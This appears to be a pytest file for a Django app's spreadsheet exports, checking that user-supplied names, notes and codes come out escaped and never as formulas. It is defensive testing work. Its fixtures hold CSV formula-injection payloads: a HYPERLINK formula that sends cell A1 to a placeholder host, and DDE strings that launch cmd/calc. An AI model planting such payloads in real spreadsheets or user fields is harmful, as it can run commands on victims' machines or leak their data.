"""One export escaping (issue 18): every CSV/XLSX download that carries user text — the LKE workbook
(unit and TPI notes, the title with the unit's name), the rencana aksi heatmap (unit names and
codes), the pakta list and the survey responses — never holds a formula made of that text.

``EXPORT_ROUTES`` lists every spreadsheet download; ``test_every_spreadsheet_route_is_covered``
fails when a new one appears without a case here.
"""

from __future__ import annotations

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from apps.demo.management.commands.seed_demo import minimal_pdf
from apps.penilaian.models import Jawaban, Tier
from apps.penilaian.services.answers import jawaban_save
from apps.survei import services as survei_services
from apps.tenancy.scope import scope
from apps.unit_kerja.models import UnitKerja
from tests.conftest import World
from tests.isolation.routes.rencana_aksi import TAHUN, make_rencana
from tests.isolation.test_isolation import all_route_names
from tests.pencanangan.conftest import PaktaWorld, pakta  # noqa: F401  (fixture)
from tests.penilaian.conftest import LKEWorld, lke  # noqa: F401  (fixture)
from tests.survei.conftest import SurveiWorld, answers, make_layanan, sv  # noqa: F401  (fixture)

HOSTILE = '=HYPERLINK("http://contoh.invalid/?"&A1,"klik")'
HOSTILE_PLUS = "+1+cmd|' /C calc'!A0"
HOSTILE_AT = "@SUM(1+1)*cmd|' /C calc'!A0"
HOSTILE_MINUS = "-2+3+cmd|' /C calc'!A0"
MARKERS = ("HYPERLINK", "cmd|", "SUM(1+1)")

# Every route that sends a spreadsheet, with the test that covers it.
EXPORT_ROUTES = {
    "penilaian:workbook-export": "test_lke_workbook_writes_notes_and_title_as_text",
    "rencana_aksi:heatmap-export": "test_heatmap_escapes_unit_names_and_codes",
    "rencana_aksi:import-template": "test_import_template_holds_no_user_text",
    "pencanangan:unit-export": "test_pakta_list_escapes_names",
    "survei:survei-export": "test_survey_csv_and_xlsx_escape_service_names",
}


def _no_formula_from_user_text(content: bytes) -> list[tuple[str, object]]:
    """Every cell of the workbook whose *formula* contains one of the hostile markers (must be none),
    and the text cells (returned for the positive checks)."""
    workbook = load_workbook(io.BytesIO(content))
    texts = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    assert not any(marker in str(cell.value) for marker in MARKERS), (sheet.title, cell.coordinate)
                elif isinstance(cell.value, str):
                    texts.append((cell.coordinate, cell.value))
    return texts


def test_every_spreadsheet_route_is_covered() -> None:
    spreadsheet_like = {name for name in all_route_names() if "export" in name or name.endswith("import-template")}
    assert spreadsheet_like <= set(EXPORT_ROUTES), sorted(spreadsheet_like - set(EXPORT_ROUTES))


def test_lke_workbook_writes_notes_and_title_as_text(lke: LKEWorld, login) -> None:  # noqa: F811
    world = lke.world
    UnitKerja.unscoped.filter(pk=world.unit_a1.pk).update(name=HOSTILE)
    with scope(world.instansi_a.pk):
        jawaban_save(
            actor=lke.actor(world.ani), penilaian=lke.penilaian, soal=lke.soal(1), answer="Ya", note=HOSTILE, version=0
        )
        Jawaban.objects.create(
            instansi=world.instansi_a,
            penilaian=lke.penilaian,
            soal=lke.soal(1),
            tier=Tier.TPI,
            level=1,
            answer="Ya",
            note=HOSTILE_AT,
        )
    response = login(world.ani).get(reverse("penilaian:workbook-export", kwargs={"public_id": lke.penilaian.public_id}))
    assert response.status_code == 200
    texts = [value for _coordinate, value in _no_formula_from_user_text(response.content)]
    # The notes come back exactly (the workbook is re-imported), as text.
    assert HOSTILE in texts
    assert HOSTILE_AT in texts
    assert f"LKE {HOSTILE} " in " ".join(texts)


def test_heatmap_escapes_unit_names_and_codes(world: World, login) -> None:
    UnitKerja.unscoped.filter(pk=world.unit_a1.pk).update(name=HOSTILE, code=HOSTILE_MINUS)

    make_rencana(world)
    response = login(world.citra).get(f"{reverse('rencana_aksi:heatmap-export')}?tahun={TAHUN}")
    assert response.status_code == 200
    texts = [value for _coordinate, value in _no_formula_from_user_text(response.content)]
    assert "'" + HOSTILE in texts
    assert "'" + HOSTILE_MINUS in texts


def test_import_template_holds_no_user_text(world: World, login) -> None:
    response = login(world.ani).get(reverse("rencana_aksi:import-template"))
    assert response.status_code == 200
    texts = _no_formula_from_user_text(response.content)
    assert texts  # the column names


def test_pakta_list_escapes_names(pakta: PaktaWorld, login) -> None:  # noqa: F811
    world = pakta.world
    signer = pakta.pegawai[2]
    type(signer).unscoped.filter(pk=signer.pk).update(name=HOSTILE_PLUS, position=HOSTILE_AT)
    client = login(world.ani)
    ok = client.post(
        reverse("pencanangan:scan-upload", args=[world.unit_a1.public_id]),
        {"nip": signer.nip, "file": SimpleUploadedFile("p.pdf", minimal_pdf("x"), "application/pdf")},
    )
    assert ok.status_code == 302
    response = client.get(reverse("pencanangan:unit-export", args=[world.unit_a1.public_id]))
    texts = [value for _coordinate, value in _no_formula_from_user_text(response.content)]
    assert "'" + HOSTILE_PLUS in texts
    assert "'" + HOSTILE_AT in texts


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_survey_csv_and_xlsx_escape_service_names(fmt: str, sv: SurveiWorld, login) -> None:  # noqa: F811
    trick = make_layanan(sv.world, name=HOSTILE)
    with scope(sv.world.instansi_a.pk):
        survei_services.respons_submit(
            survei=sv.survei, layanan=trick, device_id="x", answers=answers(4), profile={"jenis_kelamin": "p"}
        )
    response = login(sv.world.ani).get(
        reverse("survei:survei-export", kwargs={"public_id": sv.survei.public_id, "fmt": fmt})
    )
    assert response.status_code == 200
    if fmt == "csv":
        cells = [cell for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig"))) for cell in row]
        assert "'" + HOSTILE in cells
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
    else:
        texts = [value for _coordinate, value in _no_formula_from_user_text(response.content)]
        assert "'" + HOSTILE in texts
